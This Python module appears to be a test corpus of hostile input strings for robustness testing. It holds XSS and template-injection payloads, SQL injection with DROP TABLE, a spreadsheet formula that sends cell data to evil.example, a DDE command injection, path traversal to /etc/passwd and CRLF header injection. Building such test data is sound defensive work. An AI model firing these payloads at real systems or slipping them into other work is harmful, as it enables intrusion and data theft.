"""Strings that break careless programs. Those with `owned` would leave a mark in the page if they ever ran."""

from __future__ import annotations

SCRIPTS = {
    "script": "<script>window.owned=1</script>",
    "closing": "</textarea></script></title></style><script>window.owned=2</script>",
    "handler": "<img src=x onerror=\"window.owned=3\"><svg onload='window.owned=4'>",
    "attribute": "\" autofocus onfocus=\"window.owned=5\" x='' onmouseover='window.owned=6",
    "javascript": "javascript:window.owned=7//",
    "link": "<a href='javascript:window.owned=8'>b</a>[c](javascript:window.owned=9)",
    "frame": "<iframe srcdoc='<script>parent.owned=10</script>'></iframe><base href=//evil.example>",
    "style": "<style>@import url(//evil.example/x.css)</style><link rel=stylesheet href=//evil.example/y.css>",
    "template": "{{ 7*7 }}{% include 'x' %}{% debug %}${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('owned=11')()}}",
    "json": '</script><!--\u2028\u2029]]>{"__proto__":{"owned":12}}',
}
ODD = {
    "sql": "x'; DROP TABLE accounts_user; --\" OR 1=1",
    "like": "100%_\\%",
    "rtl": "abc\u202egnp.exe\u202c \u2066\u05d0\u05d1\u2069",
    "invisible": "zero\u200bwidth\u200d\ufeff\u2060",
    "controls": "bell\x07 escape\x1b[31m back\x08 del\x7f c1\x85",
    "lines": "one\r\ntwo\rthree\u2028four\tfive",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈e\u0301\u0302\u0303ﷺ🇨🇦",
    "combining": "Z" + "\u0335\u0321\u0310" * 30,
    "formula": "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd",
    "windows": "..\\..\\con\\nul.txt",
    "percent": "%2e%2e%2f%00%0d%0aSet-Cookie:%20a=b",
    "header": "x\r\nSet-Cookie: owned=1",
    "null": "before\x00after",
    "surrogate": "half \ud83d pair",
    "noncharacter": "\ufffe\uffff\U0010ffff",
    "spaces": " \u00a0\u3000 \t ",
    "long": "W" * 119,
    "longer": "<b>" * 20_000,
}  # fmt: skip
CORPUS = SCRIPTS | ODD
WRITABLE = {name: text for name, text in CORPUS.items() if name != "surrogate"}  # a form's bytes are UTF-8
